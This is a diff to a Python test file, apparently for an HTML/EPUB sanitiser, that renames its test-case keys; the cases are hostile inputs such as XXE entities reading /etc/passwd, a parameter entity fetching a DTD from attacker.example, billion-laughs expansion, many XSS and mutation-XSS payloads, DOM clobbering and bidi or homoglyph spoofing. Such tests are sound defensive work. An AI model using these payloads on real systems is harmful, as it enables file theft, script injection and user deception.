@@ -25,89 +25,95 @@ SVG = (
 )
 
 CASES: dict[str, tuple[str, set[str]]] = {
-    "29-billion-laughs": (f'<!DOCTYPE x [<!ENTITY h0 "ha">{LAUGHS}]><i>&h11;</i>', set()),
-    "30-quadratic": (f'<!DOCTYPE x [<!ENTITY q "{"长" * 5000}">]><i>{"&q;" * 500}</i>', set()),
-    "31-external-entity": ('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><i>&f;</i>', set()),
-    "32-parameter-entity": ('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><i>字</i>', set()),
-    "33-xinclude": ('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text">', set()),
-    "34-svg-script": (SVG.format(f'<script href="{SCRIPT}">alert(1)</script>'), {"drawing-dropped"}),
-    "34-svg-onload": ("<svg onload=alert(1)>", {"drawing-dropped"}),
-    "35-foreign-object": (
+    "case_29_billion_laughs": (f'<!DOCTYPE x [<!ENTITY h0 "ha">{LAUGHS}]><i>&h11;</i>', set()),
+    "case_30_quadratic": (f'<!DOCTYPE x [<!ENTITY q "{"长" * 5000}">]><i>{"&q;" * 500}</i>', set()),
+    "case_31_external_entity": ('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><i>&f;</i>', set()),
+    "case_32_parameter_entity": (
+        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><i>字</i>',
+        set(),
+    ),
+    "case_33_xinclude": (
+        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text">',
+        set(),
+    ),
+    "case_34_svg_script": (SVG.format(f'<script href="{SCRIPT}">alert(1)</script>'), {"drawing-dropped"}),
+    "case_34_svg_onload": ("<svg onload=alert(1)>", {"drawing-dropped"}),
+    "case_35_foreign_object": (
         SVG.format("<foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject>"),
         {"drawing-dropped"},
     ),
-    "36-svg-use-image": (
+    "case_36_svg_use_image": (
         SVG.format('<use xlink:href="//attacker.example/a.svg#a"/><image href="//attacker.example/a.png"/>'),
         {"drawing-dropped"},
     ),
-    "37-svg-set": (
+    "case_37_svg_set": (
         SVG.format('<a><set attributeName="href" to="javascript:alert(1)"/><text>点</text></a>'),
         {"drawing-dropped"},
     ),
-    "38-svg-import": (SVG.format("<style>@import '//attacker.example/a.css';</style>"), {"drawing-dropped"}),
-    "39-xml-stylesheet": ('<?xml-stylesheet href="//attacker.example/a.xsl" type="text/xsl"?>', set()),
-    "40-xslt": (
+    "case_38_svg_import": (SVG.format("<style>@import '//attacker.example/a.css';</style>"), {"drawing-dropped"}),
+    "case_39_xml_stylesheet": ('<?xml-stylesheet href="//attacker.example/a.xsl" type="text/xsl"?>', set()),
+    "case_40_xslt": (
         (
             '<xsl:stylesheet version="1.0"><xsl:template match="/"><xsl:value-of select="document(\'/etc/passwd\')"/>'
             "</xsl:template></xsl:stylesheet>"
         ),
         set(),
     ),
-    "99-script": (f"<ScRiPt src={SCRIPT}>alert(1)</sCrIpT >", {"script-dropped"}),
-    "99-script-slash": (f'<script/x src="{SCRIPT}">alert(1)</script>', {"script-dropped"}),
-    "99-script-nested": ("<scr<script>ipt>alert(1)</script>", set()),
-    "100-handlers": (
+    "case_99_script": (f"<ScRiPt src={SCRIPT}>alert(1)</sCrIpT >", {"script-dropped"}),
+    "case_99_script_slash": (f'<script/x src="{SCRIPT}">alert(1)</script>', {"script-dropped"}),
+    "case_99_script_nested": ("<scr<script>ipt>alert(1)</script>", set()),
+    "case_100_handlers": (
         (
             "<b onclick=alert(1) OnMouseOver=\"alert(1)\" onfocus='alert(1)' autofocus tabindex=1>粗</b>"
             "<details ontoggle=alert(1) open><summary>概</summary></details><img/onerror=alert(1)//src=x>"
         ),
         {"picture-missing"},
     ),
-    "101-java-line-script": ('<a href="java&#10;script:alert(1)">一</a>', {"link-dropped"}),
-    "101-control-javascript": ('<a href="&#1;JavaScript&colon;alert(1)">二</a>', {"link-dropped"}),
-    "101-tab-vbscript": ('<a href="vb&Tab;script:alert(1)">三</a>', {"link-dropped"}),
-    "102-data-html": ('<a href="data:text/html,<script>alert(1)</script>">四</a>', {"link-dropped"}),
-    "103-meta-refresh": ('<meta http-equiv=refresh content="0;url=javascript:alert(1)">', set()),
-    "104-base": ("<base href=https://attacker.example/ target=_top>", set()),
-    "105-iframe": (
+    "case_101_java_line_script": ('<a href="java&#10;script:alert(1)">一</a>', {"link-dropped"}),
+    "case_101_control_javascript": ('<a href="&#1;JavaScript&colon;alert(1)">二</a>', {"link-dropped"}),
+    "case_101_tab_vbscript": ('<a href="vb&Tab;script:alert(1)">三</a>', {"link-dropped"}),
+    "case_102_data_html": ('<a href="data:text/html,<script>alert(1)</script>">四</a>', {"link-dropped"}),
+    "case_103_meta_refresh": ('<meta http-equiv=refresh content="0;url=javascript:alert(1)">', set()),
+    "case_104_base": ("<base href=https://attacker.example/ target=_top>", set()),
+    "case_105_iframe": (
         '<iframe src="https://attacker.example/f" srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
         {"embed-omitted"},
     ),
-    "105-object-embed": (
+    "case_105_object_embed": (
         "<object data=data:text/html,x><param name=a></object><embed src=javascript:alert(1)>",
         {"embed-omitted"},
     ),
-    "106-form": (
+    "case_106_form": (
         (
             "<form action=https://attacker.example/><p>表内</p><button formaction=javascript:alert(1)>按</button>"
             "<input type=image src=https://attacker.example/i.png value=图 formaction=//attacker.example></form>"
         ),
         {"control-dropped"},
     ),
-    "107-template": ("<template><script>alert(1)</script></template>", set()),
-    "107-noscript": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">隐</p></noscript>', set()),
-    "107-xmp": ("<xmp><script>alert(1)</script></xmp>", set()),
-    "107-select": (
+    "case_107_template": ("<template><script>alert(1)</script></template>", set()),
+    "case_107_noscript": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">隐</p></noscript>', set()),
+    "case_107_xmp": ("<xmp><script>alert(1)</script></xmp>", set()),
+    "case_107_select": (
         "<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=alert(1)>选</select>",
         {"control-dropped"},
     ),
-    "107-comment": ('<!--><img src=x onerror=alert(1)>--!><i title="--><script>alert(1)</script>">注</i>', set()),
-    "108-math-confusion": (
+    "case_107_comment": ('<!--><img src=x onerror=alert(1)>--!><i title="--><script>alert(1)</script>">注</i>', set()),
+    "case_108_math_confusion": (
         (
             "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
             "</table></mtext></math>"
         ),
         set(),
     ),
-    "108-svg-confusion": ("<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></style></svg>", set()),
-    "109-style": (
+    "case_108_svg_confusion": ("<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></style></svg>", set()),
+    "case_109_style": (
         (
             "<style>@import '//attacker.example/a.css';@font-face{font-family:x;src:url(//attacker.example/f)}</style>"
             "<i style=\"background:url('//attacker.example/b');width:expression(alert(1))\">斜</i>"
         ),
         set(),
     ),
-    "110-hints": (
+    "case_110_hints": (
         (
             "<link rel=preconnect href=//attacker.example><link rel=dns-prefetch href=//attacker.example>"
             "<link rel=prefetch href=//attacker.example/a><link rel=stylesheet href=//attacker.example/a.css>"
@@ -115,14 +121,14 @@ CASES: dict[str, tuple[str, set[str]]] = {
         ),
         {"script-dropped"},
     ),
-    "111-clobbering": (
+    "case_111_clobbering": (
         (
             "<a id=body name=cookie href='#body'>身</a><h3 id=body>同</h3><h3 id=body>同</h3><img name=getElementById>"
             "<p id=__proto__>原</p><a href='#__proto__'>回</a>"
         ),
         {"picture-missing"},
     ),
-    "112-media": (
+    "case_112_media": (
         (
             "<img srcset='//attacker.example/1.png 1x' src=//attacker.example/2.png alt=替>"
             "<a ping=https://attacker.example/p href=https://shop.example/x>链</a>"
@@ -131,16 +137,16 @@ CASES: dict[str, tuple[str, set[str]]] = {
         ),
         {"picture-missing", "video-omitted", "audio-omitted"},
     ),
-    "113-bidi": ("<i>\u202eexe.文&#x202e;\u2067开</i>", {"direction-controls-dropped"}),
-    "114-homoglyph": ("<a href='https://xn--pple-43d.com/a'>apple.com</a>", {"link-host-shown"}),
-    "115-invisible": ("<i>水\u200b\u200c\u200d\u2060\u200b印&#x200c;&#x2063;记</i>", {"invisible-dropped"}),
-    "116-title-empty": ("<i>无题</i>", set()),
-    "116-title-emoji": ("<i>表情</i>", set()),
-    "116-title-megabyte": ("<i>长题</i>", set()),
+    "case_113_bidi": ("<i>\u202eexe.文&#x202e;\u2067开</i>", {"direction-controls-dropped"}),
+    "case_114_homoglyph": ("<a href='https://xn--pple-43d.com/a'>apple.com</a>", {"link-host-shown"}),
+    "case_115_invisible": ("<i>水\u200b\u200c\u200d\u2060\u200b印&#x200c;&#x2063;记</i>", {"invisible-dropped"}),
+    "case_116_title_empty": ("<i>无题</i>", set()),
+    "case_116_title_emoji": ("<i>表情</i>", set()),
+    "case_116_title_megabyte": ("<i>长题</i>", set()),
 }
 """Name, markup and the codes of the notes that it must leave."""
-TITLES = {"116-title-empty": "", "116-title-emoji": "😀🎉", "116-title-megabyte": "长题" * 170_000}
-TITLES["113-bidi"] = "附件 \u202egpj.exe \u2067"
+TITLES = {"case_116_title_empty": "", "case_116_title_emoji": "😀🎉", "case_116_title_megabyte": "长题" * 170_000}
+TITLES["case_113_bidi"] = "附件 \u202egpj.exe \u2067"
 PLAIN = "安静的一页"
 LOADING = {"script", "iframe", "frame", "object", "embed", "form", "input", "button", "base", "video", "audio", "track",
            "source", "applet", "template", "math", "foreignobject", "set", "animate"}  # fmt: skip
@@ -300,7 +306,7 @@ def test_each_loss_has_a_note(made, name):
         assert code in shown.out
 
 
-def test_114_the_real_host_stands_beside_a_name_that_is_not_its(made):
+def test_case_114_the_real_host_stands_beside_a_name_that_is_not_its(made):
     for whole in (everything(made.html), everything(made.epub), squeezed(made.text)):
         assert re.search(r"apple\.com[\[\]0-9]*\[xn--pple-43d\.com\]", whole)
 
